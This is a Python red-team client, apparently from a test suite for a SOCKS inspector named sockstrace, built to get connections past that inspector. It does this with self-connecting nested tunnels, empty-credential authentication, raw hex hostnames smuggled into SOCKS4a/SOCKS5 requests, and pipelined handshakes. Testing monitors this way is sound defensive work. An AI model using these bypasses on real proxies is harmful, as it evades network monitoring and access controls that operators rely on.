#!/usr/bin/python3
"""Red team r39: a SOCKS client written to get past sockstrace's SOCKS inspector.

usage: r39_socks.py MODE PROXY_HOST PROXY_PORT TARGET_HOST TARGET_PORT [ARG]

MODE:
  nested     resolve ARG itself (a DNS query), then a SOCKS5 CONNECT by *name*
             ("proxy.sockstrace.test", which the proxy resolves to itself; its's own port: the proxy connects to itself),
             and inside that tunnel a second SOCKS5 handshake: CONNECT by
             address (ATYP 1) TARGET_HOST, which the relay never reads
  nested4    the same with an inner SOCKS4 request by address, no user id
  emptyuser  SOCKS5 offering username/password only; RFC 1929 with an empty
             user name and an empty password; CONNECT by name TARGET_HOST
  s4ahost    SOCKS4a whose host is the bytes ARG (hex) verbatim
  s5host     SOCKS5 CONNECT ATYP 3 whose domain is the bytes ARG (hex)
  optimistic greeting, CONNECT by name and the HTTP request in one write
             (an HTTP client with optimistic data), then the answers
  udpassoc   resolve ARG itself, then SOCKS5 UDP ASSOCIATE (0.0.0.0:0): a
             legitimate association after a lookup

Prints "status: <first line of the HTTP answer>" when the request got through,
"refused: ..." or "failed: ..." otherwise. Exit 0 when it got through.
"""

import socket
import struct
import sys


def recv_exact(s, n):
    out = b""
    while len(out) < n:
        chunk = s.recv(n - len(out))
        if not chunk:
            raise EOFError("closed after %d of %d bytes" % (len(out), n))
        out += chunk
    return out


def http_get(s, host):
    s.sendall(b"GET / HTTP/1.0\r\nHost: " + host.encode() + b"\r\n\r\n")
    return http_answer(s)


def http_answer(s):
    data = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    line = data.split(b"\r\n", 1)[0].decode("latin1")
    print("status: " + line, flush=True)
    return 0 if line.startswith("HTTP/") else 1


def s5_reply(s):
    head = recv_exact(s, 4)
    if head[1] != 0:
        print("refused: socks5 reply %d" % head[1], flush=True)
        return False
    atyp = head[3]
    n = {1: 4, 4: 16}.get(atyp)
    if n is None:
        n = recv_exact(s, 1)[0]
    recv_exact(s, n + 2)
    return True


def s5_noauth(s):
    s.sendall(bytes([5, 1, 0]))
    chosen = recv_exact(s, 2)[1]
    if chosen != 0:
        print("refused: method %d" % chosen, flush=True)
        return False
    return True


def main():
    mode, phost, pport, thost, tport = sys.argv[1:6]
    pport, tport = int(pport), int(tport)
    arg = sys.argv[6] if len(sys.argv) > 6 else ""
    if mode in ("nested", "nested4", "udpassoc") and arg:
        print("resolved %s: %s" % (arg, socket.gethostbyname(arg)), flush=True)
    s = socket.create_connection((phost, pport), timeout=20)
    if mode in ("nested", "nested4"):
        if not s5_noauth(s):
            return 1
        name = b"proxy.sockstrace.test"
        s.sendall(bytes([5, 1, 0, 3, len(name)]) + name + struct.pack(">H", pport))
        if not s5_reply(s):
            return 1
        print("outer granted: the proxy is connected to itself", flush=True)
        if mode == "nested":
            if not s5_noauth(s):
                return 1
            s.sendall(bytes([5, 1, 0, 1]) + socket.inet_aton(thost) + struct.pack(">H", tport))
            if not s5_reply(s):
                return 1
        else:
            s.sendall(bytes([4, 1]) + struct.pack(">H", tport) + socket.inet_aton(thost) + b"\0")
            reply = recv_exact(s, 8)
            if reply[1] != 90:
                print("refused: socks4 reply %d" % reply[1], flush=True)
                return 1
        print("inner granted: by address, unread", flush=True)
        return http_get(s, thost)
    if mode == "emptyuser":
        s.sendall(bytes([5, 1, 2]))
        chosen = recv_exact(s, 2)[1]
        print("the proxy chose method %d" % chosen, flush=True)
        if chosen != 2:
            return 1
        s.sendall(bytes([1, 0, 0]))
        status = recv_exact(s, 2)[1]
        print("auth status %d" % status, flush=True)
        if status != 0:
            return 1
        s.sendall(bytes([5, 1, 0, 3, len(thost)]) + thost.encode() + struct.pack(">H", tport))
        if not s5_reply(s):
            return 1
        print("granted with empty credentials", flush=True)
        return http_get(s, thost)
    if mode == "s4ahost":
        host = bytes.fromhex(arg)
        s.sendall(bytes([4, 1]) + struct.pack(">H", tport) + bytes([0, 0, 0, 1]) + b"u\0" + host + b"\0")
        reply = recv_exact(s, 8)
        print("socks4 reply %d" % reply[1], flush=True)
        if reply[1] != 90:
            return 1
        return http_get(s, "x")
    if mode == "s5host":
        host = bytes.fromhex(arg)
        if not s5_noauth(s):
            return 1
        s.sendall(bytes([5, 1, 0, 3, len(host)]) + host + struct.pack(">H", tport))
        if not s5_reply(s):
            return 1
        return http_get(s, "x")
    if mode == "optimistic":
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        msg = bytes([5, 1, 0]) + bytes([5, 1, 0, 3, len(thost)]) + thost.encode() + struct.pack(">H", tport)
        msg += b"GET / HTTP/1.0\r\nHost: " + thost.encode() + b"\r\n\r\n"
        s.sendall(msg)
        if recv_exact(s, 2)[1] != 0 or not s5_reply(s):
            return 1
        return http_answer(s)
    if mode == "udpassoc":
        if not s5_noauth(s):
            return 1
        s.sendall(bytes([5, 3, 0, 1, 0, 0, 0, 0, 0, 0]))
        if not s5_reply(s):
            return 1
        print("association granted", flush=True)
        return 0
    print("unknown mode", flush=True)
    return 2


if __name__ == "__main__":
    try:
        sys.exit(main())
    except Exception as e:  # noqa: BLE001
        print("failed: %r" % (e,), flush=True)
        sys.exit(1)
